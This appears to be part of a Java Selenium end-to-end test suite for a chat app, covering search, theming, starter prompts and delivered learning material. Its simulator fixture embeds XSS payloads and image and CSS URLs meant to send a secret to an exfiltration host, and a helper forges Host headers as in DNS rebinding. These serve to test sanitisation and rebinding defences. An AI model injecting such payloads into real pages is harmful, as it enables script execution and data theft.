                d.findElements(By.cssSelector("#conversations .rename-input")).isEmpty());
        assertThat(titles()).contains("Vet visit for Tom").doesNotContain("Something else");

        openApp();
        wait.until(d -> titles().contains("Vet visit for Tom"));
        WebElement search = browser.findElement(By.id("conversation-search"));
        search.sendKeys("tom VET");
        wait.until(d -> titles().equals(List.of("Vet visit for Tom")));
        assertThat(browser.findElement(By.id("conversations-no-match")).isDisplayed())
                .isFalse();
        shot("14-search");
        search.sendKeys(" giraffe");
        wait.until(d -> titles().isEmpty());
        assertThat(text("#conversations-no-match")).isEqualTo("No conversation title holds “tom VET giraffe”.");
        search.clear();
        search.sendKeys(Keys.SPACE, Keys.BACK_SPACE); // clear() sends no input event
        wait.until(d -> titles().size() > 1);
        assertThat(browser.findElement(By.id("conversations-no-match")).isDisplayed())
                .isFalse();
    }

    @Test
    @Order(18)
    void the_theme_follows_the_system_until_the_toggle_picks_one_which_is_remembered() {
        try {
            systemColourScheme("dark");
            openApp();
            browser.executeScript("localStorage.removeItem('baton.theme')");
            openApp();
            wait.until(d -> background().equals(DARK));
            WebElement toggle = browser.findElement(By.id("theme-toggle"));
            assertThat(toggle.getText()).isEqualTo("Light theme");
            assertThat(toggle.getAttribute("aria-label")).isEqualTo("Switch to the light theme");

            toggle.click();
            wait.until(d -> background().equals(LIGHT));
            assertThat(browser.executeScript("return localStorage.getItem('baton.theme')"))
                    .isEqualTo("light");
            assertThat(browser.findElement(By.id("highlight-dark")).getAttribute("media"))
                    .isEqualTo("not all");
            shot("15-light-theme-on-a-dark-system");

            openApp();
            wait.until(d -> background().equals(LIGHT));
            assertThat(browser.findElement(By.id("theme-toggle")).getText()).isEqualTo("Dark theme");
            browser.findElement(By.id("theme-toggle")).click();
            wait.until(d -> background().equals(DARK));
            systemColourScheme("light");
            assertThat(background()).as("the choice outlasts the system's").isEqualTo(DARK);

            browser.executeScript("localStorage.removeItem('baton.theme')");
            openApp();
            wait.until(d -> background().equals(LIGHT));
        } finally {
            browser.executeScript("localStorage.removeItem('baton.theme')");
            browser.executeCdpCommand("Emulation.setEmulatedMedia", Map.of("features", List.of()));
        }
    }

    @Test
    @Order(19)
    void a_new_chat_offers_its_agents_starter_prompts_and_clicking_one_sends_it() {
        openApp();
        newChat("study");
        assertThat(texts("#log .empty-state .starter")).startsWith("Help me get started on my next assignment");
        newChat("private");
        assertThat(browser.findElements(By.cssSelector("#log .empty-state .starter")))
                .as("an agent without starters")
                .isEmpty();
        newChat("tasks");
        assertThat(texts("#log .empty-state .starter"))
                .containsExactly(
                        "What is on my list?", "Add a task to call the dentist tomorrow", "What is due this week?");

        // a search that hides every conversation must not hide the one about to start
        browser.findElement(By.id("conversation-search")).sendKeys("giraffe");
        wait.until(d -> titles().isEmpty());

        browser.findElement(By.cssSelector("#log .empty-state .starter")).click();

        WebElement answer = awaitAnswer();
        assertThat(answer.getText()).contains(HELLO);
        assertThat(userMessages()).containsExactly("What is on my list?");
        assertThat(browser.findElements(By.cssSelector("#log .empty-state"))).isEmpty();
        wait.until(d -> d.getCurrentUrl().contains("#/c/"));
        wait.until(d -> !titles().isEmpty());
        assertThat(titles().getFirst()).isEqualTo("What is on my list?");
        assertThat(browser.findElement(By.id("conversation-search")).getAttribute("value"))
                .isEmpty();
        assertThat(storedUserMessages(currentSession())).containsExactly("What is on my list?");
    }

    @Test
    @Order(20)
    void prepared_material_shows_in_the_open_conversation_and_elsewhere_as_a_badge_and_a_notice() {
        openApp();
        newChat("learning");
        send("I want to learn quantam fisics");
        assertThat(awaitAnswer().getText()).contains("Did you mean “Quantum physics”?");
        String first = currentSession();
        send("it is");
        // the material may follow the answer at once: wait for the promise, wherever it is
        wait.until(d -> texts("#log article.message.assistant .markdown")
                .contains("Thank you. I'm putting that together now."));

        // the worker's material arrives in the open conversation, after the answer that promised it
        WebElement delivered = wait.until(ExpectedConditions.presenceOfElementLocated(
                By.cssSelector("#log article.message.assistant.is-delivered")));
        assertThat(delivered.findElement(By.cssSelector(".markdown")).getText())
                .startsWith("Your material on Quantum physics is ready.")
                .contains("What you will be able to do");
        assertThat(delivered.findElement(By.cssSelector(".markdown h1")).getText())
                .isEqualTo("Quantum physics");
        assertThat(texts("#log article.message.assistant .markdown"))
                .as("the promise, then the material")
                .hasSize(3)
                .element(1)
                .isEqualTo("Thank you. I'm putting that together now.");
        wait.until(d -> text("#announcer").equals("Learning companion sent a new message in this conversation."));
        assertThat(browser.findElement(By.id("delivery-notice")).isDisplayed()).isFalse();
        shot("17-material-delivered");

        // the same learner asks for other material in a conversation elsewhere (another client) while the page
        // shows the first one: its entry gets a badge, and a notice links to it
        String token = devToken();
        JsonNode asked = api.post(
                        "/v1/chat", token, "{\"agentId\":\"learning\",\"message\":\"I want to learn ledarship\"}")
                .body();
        String other = asked.path("conversationId").asText();
        assertThat(api.post("/v1/chat", token, "{\"conversationId\":\"" + other + "\",\"message\":\"it is\"}")
                        .status())
                .isEqualTo(200);

        WebElement notice = wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("delivery-notice")));
        assertThat(notice.getText()).contains("New message in “");
        WebElement entry = wait.until(d -> d.findElements(By.cssSelector("#conversations li.conversation")).stream()
                .filter(li -> other.equals(li.getAttribute("data-session-id")))
                .filter(li -> !li.findElements(By.cssSelector(".unread-badge")).isEmpty())
                .findFirst()
                .orElse(null));
        assertThat(entry.findElement(By.cssSelector(".unread-badge")).getText()).isEqualTo("New message");
        wait.until(d -> text("#announcer").startsWith("New message from Learning companion in “"));
        assertThat(currentSession()).as("the page stays where the user is").isEqualTo(first);
        assertThat(browser.findElements(By.cssSelector("#log article.message.assistant")))
                .hasSize(3);
        shot("18-material-delivered-elsewhere");

        browser.findElement(By.id("delivery-notice-link")).click();
        wait.until(d -> currentSession().equals(other));
        WebElement material = wait.until(d -> d.findElements(By.cssSelector("#log article.message.assistant")).stream()
                .filter(a -> a.getText().contains("Your material on Leadership is ready."))
                .findFirst()
                .orElse(null));
        assertThat(material.findElement(By.cssSelector(".markdown h1")).getText())
                .isEqualTo("Leadership");
        assertThat(browser.findElement(By.id("delivery-notice")).isDisplayed()).isFalse();
        wait.until(d ->
                d.findElements(By.cssSelector("#conversations .unread-badge")).isEmpty());
    }

    static final String DARK = "rgb(23, 24, 28)";
    static final String LIGHT = "rgb(255, 255, 255)";

    private static void systemColourScheme(String scheme) {
        browser.executeCdpCommand(
                "Emulation.setEmulatedMedia",
                Map.of("features", List.of(Map.of("name", "prefers-color-scheme", "value", scheme))));
    }

    private static String background() {
        return (String) browser.executeScript("return getComputedStyle(document.body).backgroundColor");
    }

    /** Clicks the rename button of the conversation titled {@code title}; returns the text box that replaces it. */
    private static WebElement rename(String title) {
        WebElement button = conversation(title).findElement(By.cssSelector(".conversation-rename"));
        new Actions(browser).moveToElement(button).click().perform();
        WebElement input = wait.until(
                ExpectedConditions.visibilityOfElementLocated(By.cssSelector("#conversations .rename-input")));
        assertThat(input.getAttribute("value")).isEqualTo(title);
        assertThat(browser.switchTo().activeElement()).isEqualTo(input);
        return input;
    }

    /** Opens the export menu, picks {@code button}, and returns the text of the {@code n}th file made. */
    private static String export(String button, int n) {
        browser.findElement(By.cssSelector("#export-menu > summary")).click();
        wait.until(ExpectedConditions.elementToBeClickable(By.id(button))).click();
        wait.until(d -> ((Number) browser.executeScript("return window.exported.length")).intValue() == n);
        return (String)
                browser.executeAsyncScript("window.exported[arguments[0]].blob.text().then(arguments[1])", n - 1);
    }

    private static String exportedName(int i) {
        return (String) browser.executeScript("return window.exported[arguments[0]].name", i);
    }

    private static String exportedType(int i) {
        return (String) browser.executeScript("return window.exported[arguments[0]].blob.type", i);
    }

    private static String read(Path file) {
        try {
            return Files.readString(file);
        } catch (IOException e) {
            return null; // still being written
        }
    }

    /** The session the page shows, from its address (#/c/<id>). */
    private static String currentSession() {
        wait.until(d -> d.getCurrentUrl().contains("#/c/"));
        String url = browser.getCurrentUrl();
        return URLDecoder.decode(url.substring(url.indexOf("#/c/") + 4), StandardCharsets.UTF_8);
    }

    /** What the server kept of the user's messages in {@code session}, oldest first. */
    private static List<String> storedUserMessages(String session) {
        ApiClient.Response r = api.get("/v1/sessions/" + session + "/messages", devToken());
        assertThat(r.status()).as(r.raw()).isEqualTo(200);
        List<JsonNode> messages = new ArrayList<>();
        r.body().path("messages").forEach(messages::add);
        return messages.stream()
                .sorted(Comparator.comparingInt(m -> m.path("seq").asInt()))
                .filter(m -> m.path("role").asText().equals("user"))
                .map(m -> m.path("content").asText())
                .toList();
    }

    /** The link of the sidebar's newest conversation (listed first). */
    private static String newestConversation() {
        List<WebElement> links = browser.findElements(By.cssSelector("#sidebar a.conversation-link"));
        assertThat(links).as("the sidebar lists the conversation just had").isNotEmpty();
        return links.getFirst().getAttribute("href");
    }

    // --- helpers -----------------------------------------------------------------------------------------------

    /** The app, signed in as the development user. */
    private static void openApp() {
        browser.get(base + "/#/");
        // a fresh page: going to "#/" from "#/c/…" alone would only change the hash
        browser.navigate().refresh();
        wait.until(d -> d.findElement(By.id("app")).isDisplayed()
                || d.findElement(By.id("dev-signin-button")).isEnabled());
        if (!browser.findElement(By.id("app")).isDisplayed()) {
            browser.findElement(By.id("dev-signin-button")).click();
            wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("app")));
        }
        wait.until(d -> !new Select(d.findElement(By.id("agent"))).getOptions().isEmpty());
    }

    private static void newChat(String agentId) {
        new Select(browser.findElement(By.id("agent"))).selectByValue(agentId);
        browser.findElement(By.id("new-chat")).click();
        wait.until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector("#log .empty-state")));
    }

    /** Types into the message box and presses Enter, as a person would. */
    private static void send(String message) {
        WebElement box = wait.until(ExpectedConditions.elementToBeClickable(By.id("message")));
        box.sendKeys(message);
        box.sendKeys(Keys.ENTER);
    }

    private static WebElement lastAnswer() {
        List<WebElement> answers = browser.findElements(By.cssSelector("#log article.message.assistant"));
        return answers.getLast();
    }

    /** The newest answer, once it is complete (its footer says which model wrote it). */
    private static WebElement awaitAnswer() {
        wait.until(d -> !d.findElements(By.cssSelector("#log article.message.assistant"))
                        .isEmpty()
                && !lastAnswer()
                        .findElements(By.cssSelector(".message-foot .meta"))
                        .isEmpty());
        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("send")));
        return lastAnswer();
    }

    private static void awaitAnswerCount(int n) {
        wait.until(d ->
                d.findElements(By.cssSelector("#log article.message.assistant")).size() == n
                        && !lastAnswer()
                                .findElements(By.cssSelector(".message-foot .meta"))
                                .isEmpty());
    }

    private static List<String> titles() {
        return texts("#conversations .conversation-title");
    }

    private static List<String> userMessages() {
        return texts("#log article.message.user .bubble");
    }

    /** The text of each element matching {@code css}, read at one moment (the page may redraw between reads). */
    @SuppressWarnings("unchecked")
    private static List<String> texts(String css) {
        return (List<String>) browser.executeScript(
                "return Array.from(document.querySelectorAll(arguments[0])).map(e => e.textContent.trim())", css);
    }

    private static WebElement conversation(String title) {
        return browser.findElements(By.cssSelector("#conversations li.conversation")).stream()
                .filter(li -> li.findElement(By.cssSelector(".conversation-title"))
                        .getText()
                        .equals(title))
                .findFirst()
                .orElseThrow();
    }

    private static String text(String css) {
        return text(browser.findElement(By.cssSelector(css)));
    }

    /** textContent: also of elements a screen reader sees but the eye does not (the live region). */
    private static String text(WebElement element) {
        Object t = ((JavascriptExecutor) browser).executeScript("return arguments[0].textContent.trim()", element);
        return t == null ? "" : t.toString();
    }

    private static void shot(String name) {
        try {
            Files.write(SHOTS.resolve(name + ".png"), browser.getScreenshotAs(OutputType.BYTES));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static List<String> taskIds(String token) {
        ApiClient.Response tasks = api.get("/v1/tasks", token);
        assertThat(tasks.status()).as(tasks.raw()).isEqualTo(200);
        return tasks.body().findValuesAsText("id");
    }

    private static String devToken() {
        return api.post("/web/dev-token", null, "{}").body().path("token").asText();
    }

    private static String token(String user, String... roles) {
        return new TokenMinter(JwtSecret.of(secret))
                .mint(TokenMinter.Claims.user(user, roles), Instant.now(), Duration.ofHours(1));
    }

    /** A POST with a Host header of our choosing (HttpClient will not send one): what a rebinding page sends. */
    private static String rawPost(int port, String path, String host) throws IOException {
        try (Socket socket = new Socket("127.0.0.1", port)) {
            OutputStream out = socket.getOutputStream();
            out.write(("POST " + path + " HTTP/1.1\r\nHost: " + host
                            + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            out.flush();
            InputStream in = socket.getInputStream();
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    /** Usage by other users on earlier days, so the admin charts have something over time to show. */
    private static void seedUsage() {
        record Seed(int daysAgo, String user, String agent, int messages) {}
        List<Seed> seeds = List.of(
                new Seed(6, "ada", "tasks", 2),
                new Seed(5, "grace", "study", 1),
                new Seed(4, "ada", "private", 1),
                new Seed(2, "grace", "tasks", 3),
                new Seed(1, "ada", "study", 2));
        try {
            for (Seed s : seeds) {
                clock.shift(Duration.ofDays(-s.daysAgo()));
                if (s.agent().equals("private"))
                    freeUsageDay = clock.instant().atZone(ZoneOffset.UTC).toLocalDate();
                String token = token(s.user(), "student");
                String session = api.startSession(token, s.agent());
                for (int i = 0; i < s.messages(); i++) {
                    ApiClient.Response r = api.post(
                            "/v1/sessions/" + session + "/messages", token, "{\"content\":\"hello " + i + "\"}");
                    assertThat(r.status()).as(r.raw()).isEqualTo(200);
                }
            }
        } finally {
            clock.shift(Duration.ZERO);
        }
    }

    private static SimulatorScript script(String exfilBase) {
        String evil = """
                Here you go: <img src=x onerror="window.__pwned = 'img'"> and <script>window.__pwned = 'script'</script>

                [click me](javascript:window.__pwned='link') and <a href="javascript:window.__pwned='raw'">raw link</a>

                <iframe src="javascript:window.__pwned='frame'"></iframe>
                <form action="https://example.org/"><button>Go</button></form>

                ![secret chart](%1$s/exfil?secret=42) <img src="%1$s/exfil-raw">

                <div style="background:url(%1$s/exfil-css)">styled</div>
                <svg onload="window.__pwned='svg'"><circle r="4"/></svg>

                <a href="https://example.org/" onclick="window.__pwned='click'">a safe link</a>
                """.formatted(exfilBase);
        SimulatorScript taskAgent = TaskAgentScript.create();
        SimulatorScript bundled = BundledScript.create();
        return SimulatorScript.builder()
                // the learning agent and its content jobs as `baton serve` answers them without a model
                .responder(
                        "learning",
                        request -> request.toolNames().contains("searchTopics")
                                        || request.toolNames().isEmpty()
                                                && request.body()
                                                        .toString()
                                                        .contains(BundledScript.CONTENT_PROMPT_START)
                                ? Optional.of(bundled.answer(request).reply())
                                : Optional.empty())
                // "delete …" as the bundled task agent does it: list_tasks, then delete_task (which waits for approval)
                .responder("task-agent", request -> {
                    String said = request.lastUserMessage();
                    return said != null && said.toLowerCase(Locale.ROOT).startsWith("delete")
                            ? Optional.of(taskAgent.answer(request).reply())
                            : Optional.empty();
                })
                .whenUserSays("markdown", Reply.text(MARKDOWN))
                .whenUserSays(
                        "add a task",
                        Reply.toolCall("add_task", "{\"title\":\"buy oat milk\",\"dueDate\":\"2026-12-01\"}"))
                .whenToolResult("add_task", Reply.text("Added **buy oat milk** to your list."))
                .whenUserSays("broken tool", Reply.toolCall("complete_task", "{\"taskId\":\"no-such-task\"}"))
                .whenToolResult("complete_task", Reply.text("I could not find that task."))
                .rule(Rule.when(new Condition.UserContains("slow"), Reply.text(SLOW))
                        .withPacing(new Pacing(Duration.ZERO, 8, 1)))
                .whenUserSays("evil", Reply.text(evil))
                .whenUserSays("email", Reply.text("Thanks, noted."))
                .always(Reply.text(HELLO))
                .build();
    }

    private static BatonConfig config(String jwtSecret, String database) {
        Path agents = dir.resolve("agents");
        try {
            Files.createDirectories(agents);
            Files.writeString(agents.resolve("private.yaml"), """
                    id: private
                    name: Privacy-minded assistant
                    description: Redacts e-mail addresses and card numbers before the model sees them.
                    systemPrompt: You help with anything.
                    modules: [pii-redaction]
                    model: simulator:free
                    """);
            JsonNode raw = ConfigLoader.yamlMapper().readTree("""
                    rateLimits: { enabled: false }
                    prices:
                      models:
                        "simulator:*": { input: 2, output: 8 }
                        "simulator:free*": { input: 0, output: 0 }
                    """);
            return new BatonConfig(
                    0,
                    "jdbc:sqlite:" + dir.resolve(database),
                    jwtSecret,
                    new ModelSettings("simulator:default", null, null, Map.of()),
                    TurnLimits.DEFAULTS,
                    ROLES,
                    List.of(agents),
                    BatonConfig.DEFAULT_MAX_BODY_BYTES,
                    raw,
                    Map.of());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static Map<String, Set<String>> roles() {
        Set<String> chat = Set.of(
                "tasks:read:self",
                "tasks:write:self",
                "notes:read:self",
                "notes:write:self",
                "learning:read:self",
                "learning:write:self",
                "sessions:read:self",
                "sessions:write:self");
        return Map.of("student", chat, "admin", Set.of("admin:audit", "admin:usage"));
    }

    /** The system clock, moved back by a set amount while the test seeds usage on earlier days. */
    static final class ShiftedClock extends Clock {
        private final AtomicReference<Duration> offset = new AtomicReference<>(Duration.ZERO);

        void shift(Duration by) {
            offset.set(by);
        }

        @Override
        public Instant instant() {
            return Instant.now().plus(offset.get());
        }

        @Override
        public ZoneId getZone() {
            return ZoneOffset.UTC;
        }

        @Override
        public Clock withZone(ZoneId zone) {
            return this;
        }
    }
}
